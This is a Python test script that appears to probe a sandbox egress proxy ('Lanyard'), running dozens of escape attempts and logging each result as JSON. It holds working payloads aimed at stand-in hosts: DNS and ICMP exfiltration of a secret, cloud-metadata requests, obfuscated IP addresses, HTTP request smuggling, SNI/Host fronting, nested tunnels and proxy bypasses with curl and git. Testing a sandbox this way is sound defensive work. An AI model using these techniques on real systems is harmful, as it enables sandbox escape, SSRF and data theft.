# Ways out of a sandbox, tried one by one. `control`: the same target asked straight, where there is no sandbox. `attack`: from inside. One line of
# JSON for each way: what it got. Only the standard library, so that it runs wherever there is a python3.
import concurrent.futures, json, os, socket, ssl, struct, subprocess, sys, urllib.request

MODE, OWN = sys.argv[1], int(sys.argv[2])
GOOD, EVIL, PRIVATE, META, META6, PUBLIC6 = "203.0.113.10", "198.51.100.10", "10.99.0.9", "169.254.169.254", "fd00:ec2::254", "2001:db8:99::10"
socket.setdefaulttimeout(10)
WAYS = []

def read(s):
    out = b""
    try:
        while len(out) < 65536:
            part = s.recv(65536)
            if not part: break
            out += part
    except (OSError, ssl.SSLError) as e:
        out += ("(%s)" % type(e).__name__).encode()
    s.close()
    return out.decode("latin1")

def connect(host, port):
    return socket.create_connection((host, port))

def straight(host, port, text=b""):
    s = connect(host, port)
    if text: s.sendall(text)
    return read(s)

def get(host, path="/", method="GET", more=""):
    return ("%s %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (method, path, host, more)).encode("latin1")

def proxy(text):
    s = connect("127.0.0.1", 3128)
    s.sendall(text)
    s.settimeout(2 if MODE == 'attack' else 10)
    return read(s)

def plain(host, path="/", method="GET", more="", to=None):
    return proxy(get(host, "http://%s%s" % (to or host, path), method, more))

def tunnel(endpoint, then=b"", host=None):
    s = connect("127.0.0.1", 3128)
    s.settimeout(2 if MODE == 'attack' else 10)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (endpoint, host or endpoint)).encode("latin1"))
    head = b""
    while b"\r\n\r\n" not in head:
        part = s.recv(4096)
        if not part: break
        head += part
    if b" 200 " not in head.split(b"\r\n")[0] or not then:
        return s, head.decode("latin1")
    if callable(then): return s, then(s)
    s.sendall(then)
    return s, read(s)

def secured(endpoint, sni, text):
    def then(s):
        context = ssl.create_default_context()
        context.check_hostname = False
        t = context.wrap_socket(s, server_hostname=sni)
        t.sendall(text)
        return read(t)
    return tunnel(endpoint, then)[1]

def straight_tls(host, sni):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    t = context.wrap_socket(connect(host, 443), server_hostname=sni)
    t.sendall(get(sni))
    return read(t)

def udp(host, port, text=b"secret"):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(text, (host, port))
    return s.recv(512).decode("latin1")

def question(name):
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"

def dns(name):
    answer = udp("10.99.0.53", 53, question(name))
    return "REACHED" if socket.inet_aton(EVIL).decode("latin1") in answer else answer

def resolve(name):
    return "REACHED" if socket.gethostbyname(name) == EVIL else "other"

def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(3)
    packet = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"secret"
    total = sum(struct.unpack("!%dH" % (len(packet) // 2), packet))
    total = (total >> 16) + (total & 0xffff)
    packet = packet[:2] + struct.pack("!H", ~total & 0xffff) + packet[4:]
    s.sendto(packet, (GOOD, 0))
    while True:
        if s.recv(512)[20] == 0: return "REACHED"

# Big programs take half a minute each where the processor is emulated; there the ways that need none of them stand for them.
PROGRAMS = ("curl past the proxy", "git past the proxy", "git", "npm", "pip", "curl")

def program(*argv, **more):
    env = dict(os.environ, **more.get("env", {}))
    done = subprocess.run(argv, capture_output=True, timeout=40, env=env)
    return (done.stdout + done.stderr).decode("latin1")

def way(name, control, attack, by):
    WAYS.append((name, control, attack, by))

same = lambda name, run, by="network": way(name, run, run, by)

# Without a route: the network itself ends these, and Lanyard hears nothing of them.
same("tcp to a public address", lambda: straight(GOOD, 80, get(GOOD)))
same("tcp to another port", lambda: straight(GOOD, 9999))
same("ssh", lambda: straight(GOOD, 22))
same("tls", lambda: straight_tls(GOOD, "good.test"))
same("tcp over IPv6", lambda: straight(PUBLIC6, 80, get("x")))
same("metadata", lambda: straight(META, 80, get(META)))
same("metadata over IPv6", lambda: straight(META6, 80, get("x")))
same("a private address", lambda: straight(PRIVATE, 80, get(PRIVATE)))
same("the machine's own loopback", lambda: straight("127.0.0.1", OWN, get("127.0.0.1", "/healthz")).replace("HTTP/1.1 200", "REACHED"))
same("an address as a number", lambda: straight("174260233", 80, get("x")))
same("an address in hex", lambda: straight("0x0a.0x63.0x00.0x09", 80, get("x")))
same("an address in octal", lambda: straight("012.0143.0.011", 80, get("x")))
same("an IPv4 address in IPv6", lambda: straight("::ffff:10.99.0.9", 80, get("x")))
same("udp", lambda: udp(GOOD, 9999))
same("udp over IPv6", lambda: udp(PUBLIC6, 9999))
same("quic's port", lambda: udp(GOOD, 443))
same("dns asked straight", lambda: dns("secret1.evil.test"))
same("dns over tcp", lambda: straight("10.99.0.53", 53))
same("a secret in a name that is looked up", lambda: resolve("secret2.evil.test"))
same("icmp", icmp)
same("curl past the proxy", lambda: program("curl", "-sS", "--noproxy", "*", "http://%s/" % GOOD))
way("git past the proxy", lambda: straight(GOOD, 80, get(GOOD)), lambda: program("git", "-c", "http.proxy=", "ls-remote", "http://%s/repo" % GOOD, env=dict.fromkeys(("http_proxy", "HTTP_PROXY", "ALL_PROXY", "all_proxy"), "")), "network")

evil = lambda: straight(EVIL, 80, get("evil.test"))
evil_tls = lambda: straight_tls(EVIL, "evil.test")
private = lambda: straight(PRIVATE, 80, get(PRIVATE))
meta = lambda: straight(META, 80, get(META))
meta6 = lambda: straight(META6, 80, get("x"))
good = lambda: straight(GOOD, 80, get("good.test"))

# Through the door, and decided by policy.
way("a host without a permit", evil, lambda: plain("evil.test"), "policy")
way("a host without a permit, by TLS", evil_tls, lambda: secured("evil.test:443", "evil.test", get("evil.test", "/tls")), "policy")
way("an address without a permit", evil, lambda: plain(EVIL), "policy")
way("a secret in a query", evil, lambda: plain("evil.test", "/?q=secret"), "policy")
way("a method without a permit", good, lambda: plain("good.test", "/post", "POST", "Content-Length: 6\r\n") and plain("good.test", "/put", "DELETE"), "policy")
way("HEAD to another host", evil, lambda: plain("evil.test", "/h", "HEAD"), "policy")
way("a path without a permit", good, lambda: plain("good.test", "/internal/x"), "policy")
way("a websocket", evil, lambda: plain("evil.test", "/ws", "GET", "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n").replace("Connection: close\r\n", ""), "policy")
way("a redirect to another host", evil, lambda: urllib_get("http://good.test/?to=http://evil.test/redirected"), "policy")
way("another port of a permitted host", lambda: straight(GOOD, 8080, get(GOOD)), lambda: plain("good.test:8080"), "policy")
way("git", evil, lambda: program("git", "ls-remote", "http://evil.test/repo"), "policy")
way("npm", evil, lambda: program("npm", "view", "left-pad", "--registry", "http://evil.test/", "--fetch-retries", "0"), "policy")
way("pip", evil, lambda: program("/usr/bin/python3", "-m", "pip", "download", "--no-cache-dir", "--retries", "0", "-i", "http://evil.test/simple", "--trusted-host", "evil.test", "x"), "policy")
way("curl", evil_tls, lambda: program("curl", "-sS", "https://evil.test/"), "policy")

# Through the door, permitted by policy, and refused by where the name leads.
way("an address of a private network", private, lambda: plain(PRIVATE), "address")
way("the metadata address", meta, lambda: plain(META, "/latest/meta-data/"), "address")
way("a redirect to the metadata address", meta, lambda: urllib_get("http://good.test/?to=http://%s/" % META), "address")
way("a name of a private address", private, lambda: plain("internal.good.test"), "address")
way("a name of the metadata address", meta, lambda: plain("meta.good.test"), "address")
way("a name of both kinds", private, lambda: plain("both.good.test"), "address")
way("a name that rebinds", private, lambda: "\n".join(plain("rebind.good.test") for _ in range(6)).replace("REACHED " + GOOD, "the good one"), "address")
way("a name of an IPv4 address in IPv6", private, lambda: plain("mapped.good.test"), "address")
way("a name of an address behind NAT64", private, lambda: plain("nat64.good.test"), "address")
way("a name of the metadata address in IPv6", meta6, lambda: plain("meta6.good.test"), "address")
way("Lanyard's own API", lambda: straight("127.0.0.1", OWN, get("x", "/healthz")).replace("HTTP/1.1 200", "REACHED"), lambda: plain("127.0.0.1:%d" % OWN, "/healthz"), "address")

# Turned away at the door: no action, but on record.
way("CONNECT to the metadata address", meta, lambda: tunnel(META + ":80", get(META))[1], "door address")
way("CONNECT to a private ssh", lambda: straight(PRIVATE, 22), lambda: tunnel(PRIVATE + ":22", b"x")[1], "door address")
way("CONNECT to metadata in IPv6", meta6, lambda: tunnel("[%s]:80" % META6, get("x"))[1], "door address")
way("CONNECT to an address in disguise", private, lambda: tunnel("[::ffff:10.99.0.9]:80", get("x"))[1], "door host")
for label, text in (("a number", "174260233"), ("hex", "0x0a.0x63.0x00.0x09"), ("octal", "012.0143.0.011"), ("two parts", "10.6488073"), ("a dot at the end", "10.99.0.9."), ("an escape", "10.99.0.%39"), ("other digits", "\uff11\uff10.99.0.9".encode().decode("latin1"))):
    way("an address by %s" % label, private, (lambda text: lambda: plain(text) + tunnel(text + ":80", get("x"))[1])(text), "door host")
way("another name in TLS", evil_tls, lambda: secured("good.test:443", "evil.test", get("evil.test")), "door mismatch")
way("another Host in TLS", evil_tls, lambda: secured("good.test:443", "good.test", get("evil.test", "/fronted")), "door mismatch")
way("another Host", evil, lambda: plain("evil.test", to="good.test"), "door mismatch")
way("two Hosts", evil, lambda: plain("good.test", more="Host: evil.test\r\n"), "door host")
way("a user before the host", evil, lambda: plain("evil.test", to="good.test@evil.test"), "door host")
way("a length beside chunks", evil, lambda: proxy(b"GET http://good.test/a HTTP/1.1\r\nHost: good.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + get("evil.test", "http://evil.test/smuggled")), "door http")
way("chunks in disguise", evil, lambda: proxy(b"GET http://good.test/a HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + get("evil.test", "http://evil.test/smuggled")), "door http")
way("bare line feeds", evil, lambda: proxy(b"GET http://good.test/a HTTP/1.1\nHost: good.test\n\nGET http://evil.test/smuggled HTTP/1.1\nHost: evil.test\n\n"), "door http")
way("a folded header", evil, lambda: proxy(b"GET http://good.test/a HTTP/1.1\r\nHost:\r\n evil.test\r\n\r\n"), "door http")
way("a proxy in a tunnel", evil, lambda: tunnel("good.test:80", get("good.test", "http://evil.test/nested"))[1], "door target")
way("a tunnel in a tunnel", evil, lambda: tunnel("good.test:80", b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n")[1], "door target")
way("a proxy beyond a tunnel", lambda: straight(GOOD, 80, b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n"), lambda: tunnel("good.test:443", lambda s: tls_connect(s))[1], "door target")
way("ssh in a tunnel", lambda: straight(GOOD, 22), lambda: tunnel("good.test:22", b"SSH-2.0-x\r\n")[1], "door http")
way("bytes in a tunnel", lambda: straight(GOOD, 9999), lambda: tunnel("good.test:9999", b"\x00\x01secret")[1], "door protocol")
way("ftp", good, lambda: proxy(get("good.test", "ftp://good.test/x")), "door target")
way("a step up in the path", good, lambda: plain("good.test", "/public/..%2finternal/x"), "door target")
way("HTTP/1.0", good, lambda: proxy(b"GET http://good.test/old HTTP/1.0\r\nHost: good.test\r\n\r\n"), "door version")
way("TRACE", good, lambda: plain("good.test", "/t", "TRACE"), "door method")
way("a body over the limit", good, lambda: plain("good.test", "/big", "GET", "Content-Length: 99999999\r\n\r\n" + "x" * 300000), "door body")
way("the MCP door, another path", lambda: straight("127.0.0.1", OWN, get("x", "/healthz")).replace("HTTP/1.1 200", "REACHED"), lambda: straight("127.0.0.1", 7420, get("127.0.0.1", "/healthz")) + straight("127.0.0.1", 7420, get("127.0.0.1", "/mcp/../healthz")), "network")

def urllib_get(url):
    try:
        return urllib.request.urlopen(url).read().decode()
    except urllib.error.HTTPError as e:
        return "%d %s" % (e.code, e.read().decode())

def tls_connect(s):
    context = ssl.create_default_context()
    t = context.wrap_socket(s, server_hostname="good.test")
    t.sendall(b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n")
    return read(t)

def tried(one):
    name, control, attack, by = one
    try:
        got = (control if MODE == "control" else attack)()
    except Exception as e:
        got = "%s: %s" % (type(e).__name__, e)
    return json.dumps({"way": name, "by": by, "got": got[-1500:]})

with concurrent.futures.ThreadPoolExecutor(8) as pool:
    for line in pool.map(tried, [one for one in WAYS if "without-programs" not in sys.argv or one[0] not in PROGRAMS]): print(line, flush=True)
